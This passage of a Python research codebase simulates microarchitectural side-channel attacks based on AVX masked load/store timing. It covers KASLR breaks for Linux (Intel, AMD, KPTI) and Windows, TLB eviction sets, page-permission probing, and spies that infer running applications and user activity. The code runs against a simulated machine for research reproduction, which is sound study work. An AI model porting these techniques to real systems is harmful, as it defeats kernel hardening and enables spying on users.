    if n % 2:
        median = ordered[n // 2]
    else:
        median = (ordered[n // 2 - 1] + ordered[n // 2]) / 2
    trimmed = ordered[: max(1, int(n * 0.95))]
    mean = sum(trimmed) / len(trimmed)
    var = sum((v - mean) ** 2 for v in trimmed) / max(1, len(trimmed) - 1)
    return median, mean, math.sqrt(var)


def calibrate_store_threshold(machine, samples=600, slack_sigmas=3.0,
                              slack_cycles=2.0, batched=False, engine=None):
    """Measure the masked store on the attacker's clean USER-M page.

    Returns a :class:`ThresholdCalibration` whose threshold sits a few
    noise sigmas above the measured mean -- i.e. between the kernel-mapped
    and kernel-unmapped timing modes.  ``batched=True`` takes all
    ``samples`` through the sweep engine (two reference stores instead of
    600) with identical simulated-time accounting.
    """
    core = machine.core
    page = machine.playground.user_rw
    if batched:
        values = list(
            core.probe_sweep(
                [page], rounds=samples, op="store", warm=False, reduce=None,
                engine=engine,
            )[0]
        )
    else:
        # one poll for the single calibration VA -- the same boundary the
        # batched engine polls at, keeping chaos schedules mode-agnostic
        core.chaos_poll()
        values = [core.timed_masked_store(page) for _ in range(samples)]
    __, mean, std = robust_stats(values)
    threshold = mean + slack_sigmas * max(std, 1.0) + slack_cycles
    return ThresholdCalibration(mean, std, threshold, samples)


def calibrate_user_load(machine, samples=200):
    """Baseline: masked load on USER-M (the no-assist fast path).

    Not used for classification; exposed because Figure 2 plots it and
    because tests pin it to the paper's 13-cycle figure.
    """
    core = machine.core
    page = machine.playground.user_rw
    core.chaos_poll()
    values = [core.timed_masked_load(page) for _ in range(samples)]
    __, mean, std = robust_stats(values)
    return ThresholdCalibration(mean, std, mean + 3 * std, samples)
