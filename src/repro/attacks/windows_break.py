"""Windows 10 KASLR breaks (paper Section IV-G).

* **Region scan** -- probe the 262144 2-MiB slots of the kernel window;
  the kernel image shows up as five consecutive fast slots.  Finding it
  derandomizes the full 18 bits of region entropy (the remaining 9 bits
  of entry-point entropy fall to the TLB attack).
* **KVAS scan** -- on a KVA-Shadow kernel the user table contains only the
  transition pages; scanning at 4 KiB granularity finds the three
  consecutive KVAS pages, and the kernel base follows from their constant
  offset (0x298000 on version 1709).

Simulation note: the full scans cover 262144 (region) / ~134M (KVAS)
probes; like the user-space scan, the simulation probes a representative
sample (a window around populated slots plus a uniform background) and
extrapolates the runtime from the measured per-probe cost.
"""

import math

from repro.attacks.calibrate import calibrate_store_threshold
from repro.attacks.primitives import double_probe_load
from repro.mmu.address import PAGE_SIZE
from repro.os.windows.kernel import layout


class WindowsBreakResult:
    """Outcome of one Windows derandomization run."""

    __slots__ = (
        "base",
        "region_slots",
        "derandomized_bits",
        "probing_seconds",
        "simulated_probes",
        "full_probe_count",
        "method",
    )

    def __init__(self, base, region_slots, derandomized_bits,
                 probing_seconds, simulated_probes, full_probe_count, method):
        self.base = base
        self.region_slots = region_slots
        self.derandomized_bits = derandomized_bits
        self.probing_seconds = probing_seconds
        self.simulated_probes = simulated_probes
        self.full_probe_count = full_probe_count
        self.method = method

    def __repr__(self):
        return "WindowsBreakResult(base={}, {} bits, {:.2f}s)".format(
            hex(self.base) if self.base else None,
            self.derandomized_bits, self.probing_seconds,
        )


def find_entry_point(machine, region_base, hit_threshold=None):
    """Break the remaining 9 bits: locate the 4 KiB entry point (P4).

    The region scan recovers the 18-bit region; the kernel entry point is
    further randomized at 4 KiB granularity inside it.  The TLB attack
    finds it: evict, perform a syscall (the kernel executes its entry
    stub), then probe one page -- a hit means the entry's translation was
    just loaded.  The prime-evict cycle runs per probe because sweeping
    the region would load the 2 MiB slots' own translations and drown the
    signal.
    """
    core = machine.core
    kernel = machine.kernel
    cpu = machine.cpu
    if hit_threshold is None:
        hit_threshold = (
            cpu.expected_kernel_mapped_load_tlb_hit()
            + cpu.measurement_overhead + 8
        )

    region_pages = (
        layout.KERNEL_IMAGE_2M_PAGES * layout.KERNEL_ALIGN // PAGE_SIZE
    )
    hot = []
    for page in range(region_pages):
        core.evict_translation_caches()
        kernel.syscall(core)
        va = region_base + page * PAGE_SIZE
        measured = core.timed_masked_load(va)
        if measured <= hit_threshold:
            hot.append(va)
    # a hit on a page inside a 2 MiB slot means the whole slot's entry was
    # warm (the syscall touched it); only an isolated 4 KiB hit pinpoints
    # the entry.  With the entry slot 4 KiB-mapped, exactly one page hits.
    return hot[0] if len(hot) == 1 else None


def _sample_slots(total_slots, hot_slots, window, background):
    """Slot sample: a window around each populated slot + background."""
    sampled = set()
    for slot in hot_slots:
        for s in range(max(0, slot - window), min(total_slots, slot + window)):
            sampled.add(s)
    stride = max(1, total_slots // background)
    sampled.update(range(0, total_slots, stride))
    return sorted(sampled)


def find_kernel_region(machine, rounds=None, calibration=None,
                       window_slots=256, background_slots=4096,
                       batched=False, engine=None):
    """Locate the five consecutive 2 MiB kernel slots (18 bits)."""
    core = machine.core
    if rounds is None:
        rounds = machine.cpu.rounds_default
    core.run_setup()
    if calibration is None:
        calibration = calibrate_store_threshold(machine, batched=batched,
                                                engine=engine)

    slots = _sample_slots(
        layout.KERNEL_SLOTS, machine.kernel.region_slots(),
        window_slots, background_slots,
    )
    probe_start = core.clock.cycles
    if batched:
        vas = [
            layout.KERNEL_START + slot * layout.KERNEL_ALIGN
            for slot in slots
        ]
        timings = core.probe_sweep(vas, rounds=rounds, op="load",
                                   engine=engine)
        verdicts = [
            (slot, calibration.classify_mapped(t))
            for slot, t in zip(slots, timings)
        ]
    else:
        verdicts = []
        for slot in slots:
            va = layout.KERNEL_START + slot * layout.KERNEL_ALIGN
            timing = double_probe_load(core, va, rounds)
            verdicts.append((slot, calibration.classify_mapped(timing)))
    elapsed = core.clock.elapsed_since(probe_start)
    per_probe = elapsed / len(slots)

    run = []
    found = None
    for slot, mapped in verdicts:
        if mapped and (not run or slot == run[-1] + 1):
            run.append(slot)
        elif mapped:
            run = [slot]
        else:
            if len(run) >= layout.KERNEL_IMAGE_2M_PAGES:
                found = run
                break
            run = []
    if found is None and len(run) >= layout.KERNEL_IMAGE_2M_PAGES:
        found = run

    base = (
        layout.KERNEL_START + found[0] * layout.KERNEL_ALIGN
        if found else None
    )
    probing_seconds = core.clock.cycles_to_seconds(
        int(per_probe * layout.KERNEL_SLOTS)
    )
    bits = int(math.log2(layout.KERNEL_SLOTS))
    return WindowsBreakResult(
        base, found or [], bits, probing_seconds, len(slots),
        layout.KERNEL_SLOTS, method="region-scan",
    )


def find_kvas_region(machine, rounds=1, window_pages=512,
                     background_slots=8192, kvas_offset=layout.KVAS_OFFSET,
                     batched=False, engine=None):
    """Locate the three consecutive KVAS pages and recover the base."""
    core = machine.core
    if not machine.kernel.kvas:
        raise ValueError("find_kvas_region needs a KVAS-enabled kernel")
    core.run_setup()
    calibration = calibrate_store_threshold(machine, batched=batched,
                                            engine=engine)

    total_pages = (layout.KERNEL_END - layout.KERNEL_START) // PAGE_SIZE
    kvas_page = (machine.kernel.kvas_base - layout.KERNEL_START) // PAGE_SIZE
    pages = _sample_slots(
        total_pages, [kvas_page], window_pages, background_slots
    )
    probe_start = core.clock.cycles
    if batched:
        vas = [
            layout.KERNEL_START + page * PAGE_SIZE for page in pages
        ]
        timings = core.probe_sweep(vas, rounds=rounds, op="load",
                                   engine=engine)
        verdicts = [
            (page, calibration.classify_mapped(t))
            for page, t in zip(pages, timings)
        ]
    else:
        verdicts = []
        for page in pages:
            va = layout.KERNEL_START + page * PAGE_SIZE
            timing = double_probe_load(core, va, rounds)
            verdicts.append((page, calibration.classify_mapped(timing)))
    elapsed = core.clock.elapsed_since(probe_start)
    per_probe = elapsed / len(pages)

    run = []
    found = None
    for page, mapped in verdicts:
        if mapped and (not run or page == run[-1] + 1):
            run.append(page)
        elif mapped:
            run = [page]
        else:
            if len(run) == layout.KVAS_PAGES:
                found = run
                break
            run = []
    if found is None and len(run) == layout.KVAS_PAGES:
        found = run

    base = None
    if found:
        kvas_base = layout.KERNEL_START + found[0] * PAGE_SIZE
        base = kvas_base - kvas_offset
    probing_seconds = core.clock.cycles_to_seconds(
        int(per_probe * total_pages)
    )
    bits = int(math.log2(layout.KERNEL_SLOTS)) + 9  # 4 KiB grain: 27 bits
    return WindowsBreakResult(
        base, found or [], bits, probing_seconds, len(pages), total_pages,
        method="kvas-scan",
    )
