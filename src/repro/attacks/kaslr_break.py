"""Kernel-base derandomization (paper Section IV-B, Figure 4, Table I).

Two variants, matching the paper's Intel and AMD procedures:

* **Intel** -- the double-probe page-table attack (P2): each of the 512
  candidate slots is accessed twice and the second access is timed.  A
  mapped slot's second access hits the TLB (~93 cycles on the i5-12400F);
  an unmapped slot's walks again (~107 cycles).  The threshold comes from
  the masked-store self-calibration.
* **AMD (Zen 3)** -- kernel probes never fill the TLB, so mapped and
  unmapped slots time identically under P2.  Instead the attack exploits
  the five 4 KiB pages the kernel-mapped area contains: translations that
  terminate at the PT level walk one level deeper than the 2 MiB/unmapped
  cases (P3).  The attacker knows the pages' constant offsets from the
  base (the same assumption as knowing function offsets) and scores each
  candidate base by how many of the five expected addresses show the
  deeper-walk signature.
"""

from repro.attacks.calibrate import calibrate_store_threshold, robust_stats
from repro.attacks.primitives import double_probe_load
from repro.errors import AttackError
from repro.os.linux import layout


class KaslrBreakResult:
    """Outcome of one kernel-base derandomization run."""

    __slots__ = (
        "base",
        "slot",
        "timings",
        "threshold",
        "probing_ms",
        "total_ms",
        "mapped_slots",
        "method",
    )

    def __init__(self, base, slot, timings, threshold, probing_ms, total_ms,
                 mapped_slots, method):
        self.base = base
        self.slot = slot
        self.timings = timings
        self.threshold = threshold
        self.probing_ms = probing_ms
        self.total_ms = total_ms
        self.mapped_slots = mapped_slots
        self.method = method

    def __repr__(self):
        return "KaslrBreakResult(base={:#x}, {} in {:.3f} ms)".format(
            self.base if self.base is not None else 0,
            self.method, self.total_ms,
        )


def break_kaslr(machine, rounds=None, calibration=None, batched=False,
                engine=None):
    """Dispatch to the appropriate KASLR break for this machine.

    KPTI status is world-readable on real systems
    (``/sys/devices/system/cpu/vulnerabilities``), so choosing the
    trampoline variant on a KPTI kernel grants the attacker nothing the
    threat model doesn't already.
    """
    if getattr(machine.kernel, "kpti", False):
        from repro.attacks.kpti_break import break_kaslr_kpti

        return break_kaslr_kpti(machine, rounds=rounds,
                                calibration=calibration, batched=batched,
                                engine=engine)
    if machine.cpu.fills_tlb_for_supervisor_user_probe:
        return break_kaslr_intel(machine, rounds, calibration,
                                 batched=batched, engine=engine)
    return break_kaslr_amd(machine, rounds, batched=batched,
                           engine=engine)


def break_kaslr_intel(machine, rounds=None, calibration=None,
                      batched=False, engine=None):
    """Double-probe all 512 slots and locate the first mapped run.

    ``batched=True`` routes the 512-slot sweep (and the calibration)
    through the batched probe engine -- same simulated time, same
    classification statistics, far fewer Python-level ops.
    """
    core = machine.core
    if rounds is None:
        rounds = machine.cpu.rounds_default

    total_start = core.clock.cycles
    core.run_setup()
    if calibration is None:
        calibration = calibrate_store_threshold(machine, batched=batched,
                                                engine=engine)

    probe_start = core.clock.cycles
    if batched:
        vas = [
            layout.kernel_base_of_slot(slot)
            for slot in range(layout.KERNEL_TEXT_SLOTS)
        ]
        timings = list(core.probe_sweep(vas, rounds=rounds, op="load",
                                        engine=engine))
    else:
        timings = []
        for slot in range(layout.KERNEL_TEXT_SLOTS):
            va = layout.kernel_base_of_slot(slot)
            timings.append(double_probe_load(core, va, rounds))
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )

    mapped = [
        slot for slot, t in enumerate(timings)
        if calibration.classify_mapped(t)
    ]
    base, slot = None, None
    if mapped:
        slot = mapped[0]
        base = layout.kernel_base_of_slot(slot)
    total_ms = core.clock.cycles_to_ms(core.clock.elapsed_since(total_start))
    return KaslrBreakResult(
        base, slot, timings, calibration.threshold, probing_ms, total_ms,
        mapped, method="intel-p2",
    )


def break_kaslr_amd(machine, rounds=None,
                    page_offsets=layout.KERNEL_4K_PAGE_OFFSETS,
                    min_votes=5, batched=False, engine=None):
    """Score candidate bases by the deep-walk signature of 4 KiB pages."""
    core = machine.core
    if rounds is None:
        rounds = machine.cpu.rounds_default
    if machine.cpu.fills_tlb_for_supervisor_user_probe:
        raise AttackError(
            "the walk-level break targets parts that do not fill the TLB "
            "for supervisor probes (AMD); use break_kaslr_intel here"
        )

    total_start = core.clock.cycles
    core.run_setup()

    probe_start = core.clock.cycles
    usable = layout.KERNEL_TEXT_SLOTS - layout.KERNEL_IMAGE_2M_PAGES
    if batched:
        vas = [
            layout.kernel_base_of_slot(slot) + offset
            for slot in range(usable)
            for offset in page_offsets
        ]
        flat = core.probe_sweep(vas, rounds=rounds, op="load",
                                engine=engine)
        width = len(page_offsets)
        per_candidate = [
            list(flat[i * width : (i + 1) * width]) for i in range(usable)
        ]
        all_means = list(flat)
    else:
        per_candidate = []
        all_means = []
        for slot in range(usable):
            base = layout.kernel_base_of_slot(slot)
            means = [
                double_probe_load(core, base + offset, rounds)
                for offset in page_offsets
            ]
            per_candidate.append(means)
            all_means.extend(means)
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )

    # Self-calibration: almost every probe lands on a depth-3 termination
    # (2 MiB mapping or a non-present PDE), so the global median is the
    # shallow-walk mode; deep (PT-level) walks sit one level step above it.
    median, __, __ = robust_stats(all_means)
    threshold = median + machine.cpu.level_step_cycles / 2.0

    votes = [
        sum(1 for t in means if t > threshold) for means in per_candidate
    ]
    best_slot = max(range(len(votes)), key=lambda s: votes[s])
    base, slot = None, None
    if votes[best_slot] >= min_votes:
        slot = best_slot
        base = layout.kernel_base_of_slot(slot)

    total_ms = core.clock.cycles_to_ms(core.clock.elapsed_since(total_start))
    return KaslrBreakResult(
        base, slot, votes, threshold, probing_ms, total_ms,
        mapped_slots=[slot] if slot is not None else [], method="amd-p3",
    )
