"""KASLR break on a KPTI-enabled kernel (paper Section IV-D).

With KPTI the kernel is unmapped from the user page table, so probing the
512 slots finds nothing -- *except* the KPTI trampoline (the entry stub,
e.g. ``entry_SYSCALL_64``), which must stay user-visible.  Because KASLR
shifts the whole image, the trampoline sits at a constant, build-specific
offset from the base: finding the trampoline finds the base.

The paper confirmed the offset 0xc00000 on Ubuntu's 5.11.0-27 kernel and
0xe00000 on the EC2 AWS kernel; this attack takes the offset as input, the
same way the paper's threat model grants knowledge of constant offsets.
"""

from repro.attacks.calibrate import calibrate_store_threshold
from repro.attacks.kaslr_break import KaslrBreakResult
from repro.attacks.primitives import double_probe_load
from repro.os.linux import layout


def break_kaslr_kpti(machine, trampoline_offset=None, rounds=None,
                     calibration=None, batched=False, engine=None):
    """Locate the trampoline in the user table and subtract its offset."""
    core = machine.core
    if rounds is None:
        rounds = machine.cpu.rounds_default
    if trampoline_offset is None:
        # default to the known offset for the victim's kernel build
        trampoline_offset = layout.KPTI_TRAMPOLINE_OFFSETS.get(
            machine.kernel.version, layout.DEFAULT_TRAMPOLINE_OFFSET
        )

    total_start = core.clock.cycles
    core.run_setup()
    if calibration is None:
        calibration = calibrate_store_threshold(machine, batched=batched,
                                                engine=engine)

    probe_start = core.clock.cycles
    if batched:
        vas = [
            layout.kernel_base_of_slot(slot)
            for slot in range(layout.KERNEL_TEXT_SLOTS)
        ]
        timings = list(core.probe_sweep(vas, rounds=rounds, op="load",
                                        engine=engine))
    else:
        timings = []
        for slot in range(layout.KERNEL_TEXT_SLOTS):
            va = layout.kernel_base_of_slot(slot)
            timings.append(double_probe_load(core, va, rounds))
    probing_ms = core.clock.cycles_to_ms(
        core.clock.elapsed_since(probe_start)
    )

    mapped = [
        slot for slot, t in enumerate(timings)
        if calibration.classify_mapped(t)
    ]
    base, slot = None, None
    if mapped:
        trampoline_va = layout.kernel_base_of_slot(mapped[0])
        base = trampoline_va - trampoline_offset
        slot = layout.kernel_slot_of(base)
    total_ms = core.clock.cycles_to_ms(core.clock.elapsed_since(total_start))
    return KaslrBreakResult(
        base, slot, timings, calibration.threshold, probing_ms, total_ms,
        mapped, method="kpti-trampoline",
    )
