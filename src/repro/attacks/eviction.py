"""Software TLB-eviction sets (the paper's noise-reduction ingredient).

``Core.evict_translation_caches`` models a wholesale eviction at a fixed
cycle cost.  This module builds the *actual* mechanism behind it, the way
Gras et al. (TLB;DR) construct it and the paper's TLB attack uses it:

* mmap a large buffer,
* for a target virtual address, derive the buffer pages whose VPNs are
  congruent to the target's TLB set (linear set indexing),
* touch enough of them to displace every way of that set in both TLB
  levels.

Targeted eviction is much cheaper than a full flush and is what a 1 Hz
spy loop really does between samples.
"""

from repro.mmu.address import PAGE_SIZE


class EvictionSet:
    """Pages that map to the same TLB set(s) as one target address."""

    __slots__ = ("target", "pages")

    def __init__(self, target, pages):
        self.target = target
        self.pages = list(pages)

    def __len__(self):
        return len(self.pages)


class TLBEvictionBuffer:
    """An attacker-owned buffer large enough to build any eviction set."""

    def __init__(self, machine, pages=4096):
        self.machine = machine
        self.core = machine.core
        if machine.process is None:
            raise ValueError("eviction buffers need a process to mmap into")
        self.base = machine.process.mmap(pages, "rw-", name="eviction-buffer")
        self.pages = pages
        # touch every page once so later eviction passes never minor-fault
        for i in range(pages):
            self.core.masked_load(self.base + i * PAGE_SIZE)

    def build_set(self, target, safety_factor=2):
        """Construct an eviction set for ``target`` (4 KiB translations).

        The attacker knows the public TLB geometry of its own CPU (set
        counts are documented / recoverable); congruence is linear in the
        VPN, so buffer pages whose VPN matches the target's modulo the
        set count conflict in that level.
        """
        tlb = self.core.tlb
        l1 = tlb.l1[PAGE_SIZE]
        stlb = tlb.stlb
        target_vpn = target // PAGE_SIZE

        need_l1 = l1.ways * safety_factor
        need_stlb = stlb.ways * safety_factor
        pages = []
        for i in range(self.pages):
            va = self.base + i * PAGE_SIZE
            vpn = va // PAGE_SIZE
            in_l1_set = vpn % l1.sets == target_vpn % l1.sets
            in_stlb_set = vpn % stlb.sets == target_vpn % stlb.sets
            if in_l1_set or in_stlb_set:
                pages.append(va)
            if (
                sum(1 for p in pages if (p // PAGE_SIZE) % stlb.sets
                    == target_vpn % stlb.sets) >= need_stlb
                and sum(1 for p in pages if (p // PAGE_SIZE) % l1.sets
                        == target_vpn % l1.sets) >= need_l1
            ):
                break
        return EvictionSet(target, pages)

    def evict(self, eviction_set):
        """Touch the set's pages, displacing the target's translation.

        Returns the cycles spent (the spy's per-sample eviction cost).
        """
        start = self.core.clock.cycles
        for va in eviction_set.pages:
            self.core.masked_load(va)
        return self.core.clock.elapsed_since(start)

    def evict_address(self, target):
        """Convenience: build-and-evict for one address."""
        return self.evict(self.build_set(target))
