"""The paper's three attack primitives (Section III-C).

* **Page-table attack** (P2/P3): double-probe an address; a mapped page's
  second access is a TLB hit, an unmapped page's second access walks
  again.  On parts that do not fill the TLB for supervisor pages, timing
  instead leaks the walk's termination depth.
* **TLB attack** (P4): evict the translation caches, let the victim run,
  then single-probe -- a fast probe means the victim touched the page.
* **Permission attack** (P5): the masked load separates accessible pages
  from PROT_NONE; the masked store further separates writable from
  read-only pages.

Every primitive relies on fault suppression (P1): all probes use the
all-zero mask, so no #PF is ever delivered.
"""

from repro.cpu.avx import ZERO_MASK


def double_probe_load(core, va, rounds=1, take_min=False):
    """P2 probe: access twice per round, measure the second access.

    Returns the mean measured cycles of the second accesses, or -- with
    ``take_min`` -- their minimum.  The minimum is the standard outlier
    filter of timing attacks (a single interrupt spike cannot flip the
    verdict); scans whose verdict is per-page fragile (module-region
    extraction) use it, while the base scan averages.
    """
    core.chaos_poll()
    samples = []
    for _ in range(rounds):
        core.masked_load(va, ZERO_MASK)
        samples.append(core.timed_masked_load(va, ZERO_MASK))
    if take_min:
        return min(samples)
    return sum(samples) / rounds


def double_probe_store(core, va, rounds=1, take_min=False):
    """P2 probe with masked stores (used for the user-space scans)."""
    core.chaos_poll()
    samples = []
    for _ in range(rounds):
        core.masked_store(va, ZERO_MASK)
        samples.append(core.timed_masked_store(va, ZERO_MASK))
    if take_min:
        return min(samples)
    return sum(samples) / rounds


def single_probe_load(core, va):
    """One timed access with no warm-up (the TLB-attack measurement)."""
    core.chaos_poll()
    return core.timed_masked_load(va, ZERO_MASK)


class PageTableAttack:
    """P2/P3: distinguish present from non-present pages by probe timing."""

    def __init__(self, machine, calibration=None, rounds=None):
        self.machine = machine
        self.core = machine.core
        self.calibration = calibration
        self.rounds = rounds if rounds is not None else machine.cpu.rounds_default

    def probe(self, va):
        """Mean second-access timing of ``va``."""
        return double_probe_load(self.core, va, self.rounds)

    def is_mapped(self, va):
        """Classify one address (requires a calibration)."""
        if self.calibration is None:
            raise ValueError("PageTableAttack.is_mapped needs a calibration")
        return self.calibration.classify_mapped(self.probe(va))

    def scan(self, addresses):
        """Probe many addresses; returns the list of mean timings."""
        return [self.probe(va) for va in addresses]

    def classify_scan(self, addresses):
        """Probe and classify; returns a list of booleans (mapped?)."""
        if self.calibration is None:
            raise ValueError("PageTableAttack.classify_scan needs a calibration")
        return [
            self.calibration.classify_mapped(t) for t in self.scan(addresses)
        ]


class TLBAttack:
    """P4: observe whether the victim's activity loaded a translation.

    Usage: ``prime()`` (evict), let the victim run, then ``probe(va)``.
    A measurement below ``hit_threshold`` means the translation was in the
    TLB, i.e. the kernel touched that page since the eviction.
    """

    def __init__(self, machine, hit_threshold=None):
        self.machine = machine
        self.core = machine.core
        if hit_threshold is None:
            # TLB hit on a kernel page costs base + L1 hit + assist; a miss
            # additionally walks.  Halfway into the gap is a safe default,
            # and the attacker can measure both modes itself.
            cpu = machine.cpu
            hit = cpu.expected_kernel_mapped_load_tlb_hit()
            hit_threshold = hit + cpu.measurement_overhead + 8
        self.hit_threshold = hit_threshold

    def prime(self):
        """Evict the TLB/PSC so any later hit is attributable to the victim."""
        self.core.evict_translation_caches()

    def probe(self, va):
        """Single timed access; True if it was a TLB hit."""
        measured = single_probe_load(self.core, va)
        return measured <= self.hit_threshold, measured

    def probe_region(self, base, pages, page_size=4096):
        """Probe the first ``pages`` pages of a region; returns mean timing
        and the per-page hit verdicts."""
        verdicts = []
        timings = []
        for i in range(pages):
            hit, measured = self.probe(base + i * page_size)
            verdicts.append(hit)
            timings.append(measured)
        return sum(timings) / len(timings), verdicts


class PermissionAttack:
    """P5: recover page permissions with load+store probe combination.

    The two-pass methodology of Section IV-F: a load pass separates
    accessible pages from PROT_NONE/unmapped; a store pass separates
    writable pages (A/D assist) from read-only ones (write-permission
    assist).
    """

    def __init__(self, machine, rounds=None):
        self.machine = machine
        self.core = machine.core
        self.rounds = rounds if rounds is not None else machine.cpu.rounds_default
        cpu = machine.cpu
        overhead = cpu.measurement_overhead
        # Decision boundaries between the analytically known modes; the
        # attacker could equally calibrate them on its own pages.
        fast_load = cpu.load_base + cpu.tlb_hit_l1
        none_load = cpu.load_base + cpu.assist_load
        self._load_boundary = overhead + (fast_load + none_load) / 2
        fast_store = cpu.store_base + cpu.tlb_hit_l1
        ro_store = fast_store + cpu.assist_store
        rw_store = fast_store + cpu.assist_dirty
        # already-dirty writable pages take no assist at all: fastest mode
        self._store_dirty_ro = overhead + (fast_store + ro_store) / 2
        self._store_ro_rw = overhead + (ro_store + rw_store) / 2

    def probe_load(self, va):
        # min-filtered: one interrupt spike must not flip a page's class
        return double_probe_load(self.core, va, self.rounds, take_min=True)

    def probe_store(self, va):
        return double_probe_store(self.core, va, self.rounds, take_min=True)

    def classify(self, va):
        """Return the recovered permission class of one page.

        ``'---'`` (unmapped/PROT_NONE), ``'r'`` (readable, not writable;
        the attack cannot split r-- from r-x, Figure 3) or ``'rw'``.
        """
        load_t = self.probe_load(va)
        if load_t > self._load_boundary:
            return "---"
        # the load pass guarantees the page is mapped; the store pass only
        # has to split the three store modes: no assist (dirty writable),
        # write-permission assist (read-only), A/D assist (clean writable)
        store_t = self.probe_store(va)
        if store_t <= self._store_dirty_ro:
            return "rw"  # dirty writable page: store took no assist
        if store_t <= self._store_ro_rw:
            return "r"
        return "rw"  # clean writable page: A/D assist

    def map_region(self, base, pages, page_size=4096):
        """Permission map of ``pages`` consecutive pages from ``base``."""
        return [
            self.classify(base + i * page_size) for i in range(pages)
        ]
