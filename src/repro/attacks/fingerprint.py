"""Application fingerprinting via kernel-module TLB states.

The extension the paper predicts at the end of Section IV-E: instead of
watching one module, the spy watches a *vector* of sentinel modules per
interval and matches the observed activity rates against per-application
templates.

Pipeline:

1. locate the sentinel modules by size (the Section IV-C attack),
2. per interval: evict, let the victim run, single-probe the first page
   of each sentinel -> a binary activity vector,
3. average vectors over the observation window -> an activity-rate
   signature,
4. classify against templates by nearest (Euclidean) signature.
"""

import math

from repro.attacks.module_detect import detect_modules
from repro.errors import AttackError
from repro.workloads.apps import SENTINEL_MODULES, ApplicationWorkload


class Observation:
    """One spy run: per-module activity rates over the window."""

    __slots__ = ("rates", "intervals")

    def __init__(self, rates, intervals):
        self.rates = dict(rates)
        self.intervals = intervals

    def distance(self, template):
        """Euclidean distance to a template rate vector."""
        keys = set(self.rates) | set(template)
        return math.sqrt(sum(
            (self.rates.get(k, 0.0) - template.get(k, 0.0)) ** 2
            for k in keys
        ))


class ApplicationFingerprinter:
    """TLB-state spy over a sentinel-module vector."""

    def __init__(self, machine, sentinels=SENTINEL_MODULES,
                 hit_threshold=None, module_addresses=None, batched=False,
                 engine=None):
        self.machine = machine
        self.core = machine.core
        cpu = machine.cpu
        if hit_threshold is None:
            hit_threshold = (
                cpu.expected_kernel_mapped_load_tlb_hit()
                + cpu.measurement_overhead + 8
            )
        self.hit_threshold = hit_threshold

        if module_addresses is None:
            detection = detect_modules(machine, batched=batched,
                                       engine=engine)
            module_addresses = {}
            for name in sentinels:
                address = detection.address_of(name)
                if address is None:
                    raise AttackError(
                        "sentinel {!r} not identifiable by size".format(name)
                    )
                module_addresses[name] = address
        self.sentinels = {
            name: module_addresses[name] for name in sentinels
        }

    def observe(self, workload, intervals=30, interval_s=1.0):
        """Spy for ``intervals`` sampling windows; returns an Observation."""
        counts = {name: 0 for name in self.sentinels}
        interval_cycles = int(
            interval_s * self.machine.cpu.freq_ghz * 1e9
        )
        for _ in range(intervals):
            self.core.chaos_poll()
            self.core.evict_translation_caches()
            workload.deliver(self.machine, 0.0, interval_s)
            self.core.clock.advance(interval_cycles)
            for name, address in self.sentinels.items():
                measured = self.core.timed_masked_load(address)
                if measured <= self.hit_threshold:
                    counts[name] += 1
        rates = {
            name: count / intervals for name, count in counts.items()
        }
        return Observation(rates, intervals)

    def classify(self, observation, profiles):
        """Nearest-template match; returns (name, distance) ranking."""
        ranking = sorted(
            (
                (profile.name,
                 observation.distance(profile.module_rates))
                for profile in profiles
            ),
            key=lambda item: item[1],
        )
        return ranking

    def identify(self, workload, profiles, intervals=30):
        """Observe then classify; returns the best-matching app name."""
        observation = self.observe(workload, intervals)
        ranking = self.classify(observation, profiles)
        return ranking[0][0], observation, ranking


def fingerprint_confusion(machine_factory, app_names, trials=3,
                          intervals=24, seed0=0):
    """Confusion matrix over the app catalog.

    ``machine_factory(seed)`` builds a victim machine; each trial runs a
    fresh machine, fresh workload RNG, and one identification.
    """
    from repro.workloads.apps import APP_CATALOG

    profiles = [APP_CATALOG[name] for name in app_names]
    matrix = {truth: {guess: 0 for guess in app_names}
              for truth in app_names}
    seed = seed0
    for truth in app_names:
        for _ in range(trials):
            machine = machine_factory(seed)
            spy = ApplicationFingerprinter(machine)
            workload = ApplicationWorkload(truth, seed=seed + 7)
            guess, __, __ = spy.identify(workload, profiles, intervals)
            matrix[truth][guess] += 1
            seed += 1
    return matrix
