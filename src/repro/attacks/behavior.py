"""User-behaviour inference via the TLB attack (paper Section IV-E, Fig. 6).

A spy process repeatedly (1 Hz in the paper, for up to 100 s):

1. evicts the translation caches,
2. sleeps one interval while the victim's drivers may run,
3. measures the masked-load time of the first pages of a target kernel
   module.

If the module was active during the interval, its translations are in the
TLB and the measurement is fast; idle intervals measure slow (full walks).
The paper monitors ``bluetooth`` (audio streaming) and ``psmouse`` (mouse
movement).
"""

from repro.mmu.address import PAGE_SIZE


class SpySample:
    """One spy interval's observation."""

    __slots__ = ("t_seconds", "mean_cycles", "active")

    def __init__(self, t_seconds, mean_cycles, active):
        self.t_seconds = t_seconds
        self.mean_cycles = mean_cycles
        self.active = active

    def __repr__(self):
        return "SpySample(t={:.0f}s, {:.0f}cy, {})".format(
            self.t_seconds, self.mean_cycles,
            "ACTIVE" if self.active else "idle",
        )


class BehaviorSpy:
    """Monitors one kernel module's TLB state over time."""

    def __init__(self, machine, module_base, probe_pages=10,
                 hit_threshold=None):
        self.machine = machine
        self.core = machine.core
        self.module_base = module_base
        self.probe_pages = probe_pages
        cpu = machine.cpu
        if hit_threshold is None:
            hit_threshold = (
                cpu.expected_kernel_mapped_load_tlb_hit()
                + cpu.measurement_overhead + 8
            )
        self.hit_threshold = hit_threshold

    def _probe_once(self):
        timings = [
            self.core.timed_masked_load(self.module_base + i * PAGE_SIZE)
            for i in range(self.probe_pages)
        ]
        return sum(timings) / len(timings)

    def run(self, workload, duration_s=100, interval_s=1.0):
        """Run the spy loop against a workload's event schedule.

        ``workload`` must expose ``deliver(machine, t_start, t_end)`` which
        performs whatever kernel activity the victim generates inside the
        interval.  Returns the list of :class:`SpySample`.
        """
        samples = []
        t = 0.0
        interval_cycles = int(
            interval_s * self.machine.cpu.freq_ghz * 1e9
        )
        while t < duration_s:
            self.core.evict_translation_caches()
            # the victim runs during the sleep interval
            workload.deliver(self.machine, t, t + interval_s)
            self.core.clock.advance(interval_cycles)
            mean = self._probe_once()
            samples.append(
                SpySample(t, mean, active=mean <= self.hit_threshold)
            )
            t += interval_s
        return samples


def detection_metrics(samples, truth_fn):
    """Compare spy verdicts against ground truth activity.

    ``truth_fn(t)`` returns True if the victim was genuinely active in the
    interval starting at ``t``.  Returns (accuracy, precision, recall).
    """
    tp = fp = tn = fn = 0
